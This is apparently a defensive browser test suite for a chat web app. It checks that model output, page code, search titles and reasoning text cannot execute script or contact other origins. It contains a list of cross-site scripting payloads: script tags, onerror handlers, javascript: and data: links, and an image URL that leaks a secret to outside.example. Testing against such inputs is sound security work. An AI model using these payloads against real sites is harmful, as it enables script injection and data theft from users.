"""What a model, a page or a title says never runs, and nothing is asked of another origin."""

from __future__ import annotations

from typing import Any

import pytest

from tests.web.browsing import opened
from tests.web.sites import Say, Site, pieces, research, running

pytestmark = [pytest.mark.http, pytest.mark.slow]

HOSTILE = [
    '<script>window.pwned = 1</script><img src=x onerror="window.pwned=1"><svg onload=window.pwned=1>',
    "[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [v](vbscript:x)",
    "![pixel](https://outside.example/p.png?secret=1) <https://outside.example/a>",
    '```html"><script>window.pwned=1</script>\n<b>bold?</b>\n```',
    "<iframe src=https://outside.example></iframe><style>body{display:none}</style><base href=//evil.example>",
    "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| [x](JaVaScRiPt:alert(1)) | <a href=javascript:1>y</a> |",
    '[a](https://ok.example" onmouseover="window.pwned=1)\n\n> <script>window.pwned=1</script>',
]


def test_what_a_model_writes_never_runs(browser: Any):
    """`opened` fails where the policy had to step in, or another origin was asked for anything."""
    answers = [Say(pieces(text, 3)) for text in HOSTILE]
    with running(Site(answers)) as site, opened(browser, site.url) as tab:
        for number in range(len(HOSTILE)):
            tab.ask("Be evil")
            answer = tab.answer(number)
            for link in answer.get_by_role("link").all():
                assert link.get_attribute("href").startswith(("https://", "http://"))
            assert answer.locator("script, iframe, style, base, img, svg[onload], [onerror]").count() == 0
        tab.reload()
        assert tab.page.locator("article[aria-label=Assistant]").count() == len(HOSTILE)
        assert tab.page.evaluate("window.pwned") is None
        assert tab.page.locator("body").is_visible()


def test_the_policy_stands_behind_the_pages_own_code(browser: Any):
    """What a slip of the page could do is forbidden too: text as HTML, code in the page, requests elsewhere."""
    with running(Site()) as site, opened(browser, site.url) as tab:
        for slip in (
            "document.body.innerHTML = '<b>x</b>'",
            "document.body.setAttribute('onclick', 'window.pwned=1')",
            "document.createElement('script').text = 'window.pwned=1'",
        ):
            tried = f"() => {{ try {{ {slip}; }} catch (error) {{ return error.name; }} }}"
            assert tab.page.evaluate(tried) == "TypeError", slip
        elsewhere = "fetch('https://outside.example/').then(() => 'sent', () => 'refused')"
        assert tab.page.evaluate(elsewhere) == "refused"
        assert tab.page.evaluate("window.pwned") is None
        assert any("outside.example" in said for said in tab.trouble), (
            "the policy refused it, not the network"
        )
        tab.trouble.clear()
        tab.outside.clear()


def test_a_title_and_a_thought_never_run_either(browser: Any):
    evil = '<img src=x onerror="window.pwned=1">'
    found = [{"n": 1, "title": evil, "url": "javascript:window.pwned=1", "domain": evil, "cited": True}]
    answer = Say(
        [
            {"reasoning": evil},
            research(type="search", query=evil, results=found),
            f"{evil} [1]",
            research(type="sources", sources=found),
        ]
    )
    models = [{"id": evil, "max_model_len": 1}]
    with running(Site([answer], models=models, search=True)) as site, opened(browser, site.url) as tab:
        tab.ask(evil)
        tab.answer()
        assert tab.page.locator("#scroll img[src=x], #side img[src=x], header img[src=x]").count() == 0
        assert tab.page.get_by_role("link").and_(tab.page.locator("[href^=javascript]")).count() == 0
        assert tab.page.evaluate("window.pwned") is None
